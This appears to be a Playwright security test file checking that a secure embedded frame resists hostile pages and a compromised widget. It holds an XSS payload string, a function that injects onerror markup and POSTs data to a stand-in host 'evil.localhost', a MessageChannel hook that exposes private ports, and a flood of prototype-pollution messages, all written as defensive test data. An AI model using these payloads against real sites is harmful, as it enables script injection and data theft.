import { SECURE } from '@latch/hosting/kit/addresses.ts'
import { pressGuarded } from '@latch/hosting/kit/widget.ts'
import { expect, type Frame, type Page, test } from '@playwright/test'
import { connectMailed, isSigned, requestInFrame } from './raw/mailed.ts'
import { EVIL, MAILED, openRaw } from './raw/sites.ts'

const FRAME = `${SECURE}/embed?projectId=mailed`

/** Puts the secure frame itself into a page, and offers it a channel, as its widget would. @returns the result. */
function embed(page: Page): Promise<string> {
  return page.evaluate(async (url) => {
    const { mount, postInit, dial, hello } = window.raw
    const frame = mount(url)
    void hello(frame)
    await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
    const init = { ns: 'latch.secure', nonce: window.raw.seen.hellos[0]?.nonce ?? crypto.randomUUID() }
    return dial(postInit(frame.contentWindow, init)).then(
      () => 'answered',
      (error: { code: string }) => error.code,
    )
  }, FRAME)
}

test('T5 the secure frame is mute in a page that holds it without the widget, listed as it may be', async ({
  context,
}) => {
  const page = await openRaw(context, MAILED)
  expect(await embed(page)).toBe('CONNECTION_TIMEOUT')
  expect(await page.evaluate(() => window.raw.seen.hellos)).toEqual([])
  await expect(page.frameLocator('iframe').locator('main')).toHaveCount(0)
})

test('T3 a page that the project does not list cannot hold the secure frame', async ({ context }) => {
  const page = await openRaw(context, EVIL)
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
  await embed(page)
  await refused
  await expect(page.frameLocator('iframe').locator('script[data-worker]')).toHaveCount(0)
})

/** Runs in a compromised widget: exposes the frame's channel, which the widget's own code keeps private. */
function keepPort(): void {
  const Native = window.MessageChannel
  const channels: MessageChannel[] = []
  window.MessageChannel = class extends Native {
    constructor() {
      super()
      channels.push(this)
    }
  }
  Object.assign(window, { channels })
}

const HOSTILE = '"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'

/** First steps of a script injected into the secure frame: write markup, and send data out. @returns the errors that stopped them. */
async function tryHarm(): Promise<string[]> {
  const markup = await Promise.resolve()
    .then(() => {
      document.body.innerHTML = '<img src=x onerror="window.pwned=1">'
      return 'done'
    })
    .catch(String)
  const away = await fetch('http://evil.localhost/', { method: 'POST', body: 'key' }).then(
    () => 'sent',
    (error: Error) => error.name,
  )
  return [markup, away]
}

/** First step of a script injected into the widget: read the secure frame. @returns the error that stopped it. */
function tryReading(): string {
  try {
    return String(window.frames[0]?.document.body.textContent)
  } catch (error) {
    return (error as Error).name
  }
}

function depthOf(frame: Frame): number {
  const outer = frame.parentFrame()
  return outer === null ? 0 : 1 + depthOf(outer)
}

test('T18 ten thousand messages, by the page and by a widget that was broken into, do not stop the secure frame, and no text is markup there', async ({
  context,
}) => {
  test.slow()
  await context.addInitScript(keepPort)
  const mailed = await connectMailed(context)
  const { page } = mailed
  const { approve, requested } = await requestInFrame(mailed, HOSTILE)
  const [widget, secure] = [1, 2].map((depth) => page.frames().find((frame) => depthOf(frame) === depth))
  await test.step('a text that would be markup is a text, and neither markup nor a stranger gets in or out', async () => {
    expect(await secure?.evaluate(() => ['pwned' in window, document.images.length])).toEqual([false, 0])
    const [markup, message] = (await secure?.evaluate(tryHarm)) ?? []
    expect(markup).toContain('TrustedHTML')
    expect(message).toBe('TypeError')
    expect(await widget?.evaluate(tryReading)).toBe('SecurityError')
  })
  await test.step('from the page, past the widget', async () => {
    await page.evaluate(() => {
      const frame = window.frames[0]?.frames[0]
      for (let count = 0; count < 10_000; count += 1)
        frame?.postMessage({ ns: 'latch.secure', t: 'init', nonce: 'guess' }, '*')
    })
    await pressGuarded(approve)
    await expect.poll(() => isSigned(mailed, requested)).toBe(true)
  })

  await test.step('on the channel itself', async () => {
    const next = await requestInFrame(mailed, 'After the flood')
    await widget?.evaluate(() => {
      const channels: MessageChannel[] = Reflect.get(window, 'channels')
      const { port1 } = channels.at(-1) ?? {}
      const call = (methodPath: string[], args: unknown[]) => ({
        ...{ namespace: 'penpal', channel: undefined, type: 'CALL', id: crypto.randomUUID() },
        ...{ methodPath, args },
      })
      const shapes = [
        () => call(['cancel'], [{ id: crypto.randomUUID() }]),
        () => call(['__proto__', 'polluted'], [{ ['__proto__']: { polluted: true } }]),
        () => call(['constructor'], []),
        () => ({ namespace: 'penpal', type: 'no such type' }),
        () => 'x'.repeat(1_000),
      ]
      for (let count = 0; count < 10_000; count += 1) port1?.postMessage(shapes[count % shapes.length]?.())
    })
    await pressGuarded(next.approve)
    await expect.poll(() => isSigned(mailed, next.requested)).toBe(true)
  })
})
